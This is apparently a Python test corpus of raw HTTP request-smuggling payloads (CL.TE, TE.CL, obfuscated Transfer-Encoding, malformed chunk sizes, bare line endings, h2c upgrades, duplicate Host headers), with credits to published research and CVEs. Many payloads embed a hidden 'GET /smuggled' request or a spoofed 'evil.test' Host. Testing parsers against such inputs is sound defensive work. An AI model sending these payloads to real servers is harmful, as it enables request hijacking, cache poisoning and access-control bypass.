"""Smuggling payloads written after public descriptions; HOST stands for the allowed host.

PS: PortSwigger research (HTTP Desync Attacks 2019, HTTP/2: The Sequel 2021, Browser-Powered Desync 2022, "HTTP/1.1 must
die" 2025). FC: "Funky chunks" (w4ke.info, 2025). RFC: RFC 9112. CVE numbers as given.
"""

HIDDEN = "GET /smuggled HTTP/1.1\r\nHost: HOST\r\n\r\n"


def post(lines, body=""):
    return f"POST /x HTTP/1.1\r\nHost: HOST\r\n{lines}\r\n{body}".encode("latin-1")


def get(lines, body=""):
    return f"GET /x HTTP/1.1\r\nHost: HOST\r\n{lines}\r\n{body}".encode("latin-1")


def chunks(body):
    return post("Transfer-Encoding: chunked\r\n", body)


OURS = [
    # Two framings (PS 2019; RFC section 6.3).
    ("CL.TE", post("Content-Length: 44\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n" + HIDDEN)),
    ("TE.CL", post("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", "2a\r\n" + HIDDEN + "\r\n0\r\n\r\n")),
    ("TE.CL, coding first", post("Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", "0\r\n\r\n")),
    ("TE.TE, second unknown", post("Transfer-Encoding: chunked\r\nTransfer-Encoding: cow\r\n", "0\r\n\r\n")),
    ("TE.TE, first unknown", post("Transfer-Encoding: cow\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n")),
    ("TE twice chunked", post("Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n")),
    ("TE empty", post("Transfer-Encoding:\r\nContent-Length: 5\r\n", "0\r\n\r\n")),
    ("TE identity and CL", post("Transfer-Encoding: identity\r\nContent-Length: 5\r\n", "0\r\n\r\n")),
    ("TE with a comma only", post("Transfer-Encoding: ,chunked\r\n", "0\r\n\r\n")),
    ("TE with a trailing comma", post("Transfer-Encoding: chunked,\r\n", "0\r\n\r\n")),
    ("TE quoted", post('Transfer-Encoding: "chunked"\r\n', "0\r\n\r\n")),
    ("TE with a parameter", post("Transfer-Encoding: chunked;q=1\r\n", "0\r\n\r\n")),
    ("TE folded", post("Transfer-Encoding:\r\n chunked\r\n", "0\r\n\r\n")),
    ("TE with a tab", post("Transfer-Encoding:\tchunked\r\n", "0\r\n\r\n")),
    ("TE with a vertical tab (CVE-2019-16786)", post("Transfer-Encoding: \x0bchunked\r\n", "0\r\n\r\n")),
    ("TE behind a bare LF", post("X: y\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n", "0\r\n\r\n")),
    ("TE behind a bare CR (CVE-2022-32214)", post("X: y\rTransfer-Encoding: chunked\r\nContent-Length: 5\r\n", "0\r\n\r\n")),
    ("TE with a no-break space", post("Transfer-Encoding:\xa0chunked\r\nContent-Length: 5\r\n", "0\r\n\r\n")),
    ("TE in HTTP/1.0 (RFC section 6.1)", b"POST /x HTTP/1.0\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
    # Lengths (RUSTSEC-2021-0078, CVE-2023-25690 class).
    ("two lengths", post("Content-Length: 5\r\nContent-Length: 0\r\n", "0\r\n\r\n")),
    ("two equal lengths", post("Content-Length: 5\r\nContent-Length: 5\r\n", "0\r\n\r\n")),
    ("list of lengths", post("Content-Length: 5, 5\r\n", "0\r\n\r\n")),
    ("length with a plus", post("Content-Length: +5\r\n", "0\r\n\r\n")),
    ("length, negative", post("Content-Length: -1\r\n", "0\r\n\r\n")),
    ("length, hexadecimal", post("Content-Length: 0x5\r\n", "0\r\n\r\n")),
    ("length with an underscore (CVE-2023-47627)", post("Content-Length: 0_5\r\n", "0\r\n\r\n")),
    ("length beyond 64 bits", post("Content-Length: 18446744073709551621\r\n", "0\r\n\r\n")),
    ("length beyond 63 bits", post("Content-Length: 9223372036854775808\r\n", "0\r\n\r\n")),
    ("length, empty", post("Content-Length:\r\n", "")),
    ("length with a zero in front", post("Content-Length: 05\r\n", "0\r\n\r\n")),
    ("length in quotes", post('Content-Length: "5"\r\n', "0\r\n\r\n")),
    ("length with a form feed", post("Content-Length: 5\x0c\r\n", "0\r\n\r\n")),
    ("length with a NUL (CVE-2022-0552 class)", post("Content-Length: 5\x00\r\n", "0\r\n\r\n")),
    ("name with a space (RFC section 5.1)", post("Content-Length : 44\r\n", HIDDEN)),
    ("name with a tab", post("Content-Length\t: 44\r\n", HIDDEN)),
    ("name with a NUL", post("Content-Length\x00: 44\r\n", HIDDEN)),
    ("name with an underscore", post("Content_Length: 44\r\n", "")),
    ("name empty (CVE-2023-25725)", post(": x\r\nContent-Length: 44\r\n", HIDDEN)),
    ("line without a colon", post("Content-Length\r\n", HIDDEN)),
    ("first line folded (PS)", b"POST /x HTTP/1.1\r\n Content-Length: 44\r\nHost: HOST\r\n\r\n" + HIDDEN.encode()),
    ("length named by Connection", post("Connection: content-length\r\nContent-Length: 44\r\n", HIDDEN)),
    ("coding named by Connection", post("Connection: transfer-encoding\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n")),
    ("Host named by Connection", get("Connection: host\r\n")),
    # Bodies that a server may ignore (PS 2022).
    ("CL.0", post(f"Content-Length: {len(HIDDEN) - 3}\r\nConnection: keep-alive\r\n", HIDDEN.replace("HOST", "x"))),
    ("GET with a body", get("Content-Length: 5\r\n", "12345")),
    ("HEAD with a body", b"HEAD /x HTTP/1.1\r\nHost: HOST\r\nContent-Length: 5\r\n\r\n12345"),
    ("GET with chunks", get("Transfer-Encoding: chunked\r\n", "5\r\n12345\r\n0\r\n\r\n")),
    ("0.CL by Expect (PS 2025)", post("Expect: 100-continue\r\nContent-Length: 5\r\n", "12345")),
    ("Expect obfuscated (PS 2025)", post("Expect: y 100-continue\r\nContent-Length: 5\r\n", "12345")),
    ("Expect twice", post("Expect: 100-continue\r\nExpect: x\r\nContent-Length: 5\r\n", "12345")),
    ("Upgrade with a body", post("Connection: upgrade\r\nUpgrade: websocket\r\nContent-Length: 5\r\n", "12345")),
    ("upgrade to h2c with a body (h2c smuggling)",
     post("Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n")),
    ("upgrade to h2c, not named in Connection", get("Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n")),
    ("the preface of HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    ("pause: head without its end", b"POST /x HTTP/1.1\r\nHost: HOST\r\nContent-Length: 100\r\n\r\nGET /smuggled HTTP/1.1\r\n"),
    # Chunks (FC; CVE-2022-35256, CVE-2023-47627, CVE-2024-33452).
    ("chunk size 0x", chunks("0x5\r\n12345\r\n0\r\n\r\n")),
    ("chunk size with a plus", chunks("+5\r\n12345\r\n0\r\n\r\n")),
    ("chunk size with a minus", chunks("-5\r\n12345\r\n0\r\n\r\n")),
    ("chunk size with an underscore", chunks("0_5\r\n12345\r\n0\r\n\r\n")),
    ("chunk size with a space before", chunks(" 5\r\n12345\r\n0\r\n\r\n")),
    ("chunk size with a space behind", chunks("5 \r\n12345\r\n0\r\n\r\n")),
    ("chunk size with zeros in front", chunks("0000005\r\n12345\r\n0\r\n\r\n")),
    ("chunk size beyond 64 bits", chunks("10000000000000005\r\n12345\r\n0\r\n\r\n")),
    ("chunk size empty", chunks("\r\n12345\r\n0\r\n\r\n")),
    ("chunk size of letters", chunks("xyz\r\n12345\r\n0\r\n\r\n")),
    ("extension", chunks("5;a=b\r\n12345\r\n0\r\n\r\n")),
    ("extension, quoted with a CRLF", chunks('5;a="\r\n12345\r\n0\r\n\r\n')),
    ("extension ended by a bare LF (TERM.EXT)", chunks("2;\nxx\r\n2d\r\nab\r\n0\r\n\r\n" + HIDDEN)),
    ("extension with a bare CR", chunks("2;\rxx\r\nab\r\n0\r\n\r\n")),
    ("line ended by a bare LF", chunks("5\n12345\r\n0\r\n\r\n")),
    ("line ended by CR alone", chunks("5\r12345\r\n0\r\n\r\n")),
    ("data ended by a bare LF (SPILL.TERM)", chunks("5\r\n12345\n0\r\n\r\n")),
    ("data ended by two other bytes (ONE.TWO)", chunks("5\r\n12345XX0\r\n\r\n")),
    ("data longer than its size", chunks("5\r\n1234567\r\n0\r\n\r\n")),
    ("data shorter than its size", chunks("5\r\n123\r\n0\r\n\r\n")),
    ("last chunk of many zeros", chunks("5\r\n12345\r\n000\r\n\r\n")),
    ("last chunk with an extension", chunks("5\r\n12345\r\n0;x\r\n\r\n")),
    ("last chunk ended by bare LFs", chunks("5\r\n12345\r\n0\n\n")),
    ("trailers", chunks("5\r\n12345\r\n0\r\nX: y\r\n\r\n")),
    ("trailer Content-Length", chunks("0\r\nContent-Length: 44\r\n\r\n")),
    ("trailer Host", chunks("0\r\nHost: evil.test\r\n\r\n")),
    ("trailer Authorization", chunks("0\r\nAuthorization: Bearer x\r\n\r\n")),
    ("trailer without a colon", chunks("0\r\nGET /smuggled HTTP/1.1\r\n\r\n")),
    ("trailer ended by a bare LF", chunks("0\r\nX: y\n\r\n")),
    ("trailer folded", chunks("0\r\nX: y\r\n z\r\n\r\n")),
    # Request lines and versions (RFC section 3).
    ("two spaces", b"GET  /x HTTP/1.1\r\nHost: HOST\r\n\r\n"),
    ("tab between", b"GET\t/x\tHTTP/1.1\r\nHost: HOST\r\n\r\n"),
    ("space at the end", b"GET /x HTTP/1.1 \r\nHost: HOST\r\n\r\n"),
    ("bare LF", b"GET /x HTTP/1.1\nHost: HOST\n\n"),
    ("bare CR in the target", b"GET /x\rHTTP/1.1 HTTP/1.1\r\nHost: HOST\r\n\r\n"),
    ("HTTP/0.9", b"GET /x\r\n\r\n"),
    ("HTTP/1.2", b"GET /x HTTP/1.2\r\nHost: HOST\r\n\r\n"),
    ("HTTP/2.0", b"GET /x HTTP/2.0\r\nHost: HOST\r\n\r\n"),
    ("http/1.1 in lower case", b"GET /x http/1.1\r\nHost: HOST\r\n\r\n"),
    ("HTTP/01.1", b"GET /x HTTP/01.1\r\nHost: HOST\r\n\r\n"),
    ("HTTP/1.1 and more", b"GET /x HTTP/1.10\r\nHost: HOST\r\n\r\n"),
    ("two versions", b"GET /x HTTP/1.1 HTTP/1.1\r\nHost: HOST\r\n\r\n"),
    ("method with a colon", b"GE:T /x HTTP/1.1\r\nHost: HOST\r\n\r\n"),
    ("space before the method", b" GET /x HTTP/1.1\r\nHost: HOST\r\n\r\n"),
    ("empty lines before", b"\r\n\r\nGET /x HTTP/1.1\r\nHost: HOST\r\n\r\n"),
    ("a bare LF before", b"\nGET /x HTTP/1.1\r\nHost: HOST\r\n\r\n"),
    ("raw UTF-8 in the target", "GET /ä HTTP/1.1\r\nHost: HOST\r\n\r\n".encode()),
    ("NUL in the target", b"GET /x\x00y HTTP/1.1\r\nHost: HOST\r\n\r\n"),
    # Hosts and fields.
    ("two Hosts", get("Host: evil.test\r\n")),
    ("two equal Hosts", get("Host: HOST\r\n")),
    ("Host with a space before the colon", b"GET /x HTTP/1.1\r\nHost : HOST\r\nHost: HOST\r\n\r\n"),
    ("Host folded", b"GET /x HTTP/1.1\r\nX: y\r\n Host: evil.test\r\nHost: HOST\r\n\r\n"),
    ("NUL in a value", get("X: a\x00b\r\n")),
    ("a request in a value, by bare LFs", get("X: a\n\nGET /smuggled HTTP/1.1\nHost: evil.test\n\n")),
    ("bytes above ASCII in a value", get("X: \xe4\xff\r\n")),
    ("bytes above ASCII in a name", get("X\xe4: y\r\n")),
    ("head ended by CR CR LF", b"GET /x HTTP/1.1\r\nHost: HOST\r\nX: y\r\r\n\r\n"),
    ("head ended by LF LF", b"GET /x HTTP/1.1\r\nHost: HOST\r\nX: y\n\n"),
    ("head ended by CRLF LF", b"GET /x HTTP/1.1\r\nHost: HOST\r\nX: y\r\n\n"),
    ("pipelined", b"GET /1 HTTP/1.1\r\nHost: HOST\r\n\r\nGET /2 HTTP/1.1\r\nHost: HOST\r\n\r\n"),
    ("pipelined behind a body", post("Content-Length: 5\r\n", "12345") + b"GET /2 HTTP/1.1\r\nHost: HOST\r\n\r\n"),
    ("pipelined behind chunks", chunks("5\r\n12345\r\n0\r\n\r\n") + b"GET /2 HTTP/1.1\r\nHost: HOST\r\n\r\n"),
    ("extra CRLF behind a body", post("Content-Length: 5\r\n", "12345\r\n") + b"GET /2 HTTP/1.1\r\nHost: HOST\r\n\r\n"),
]
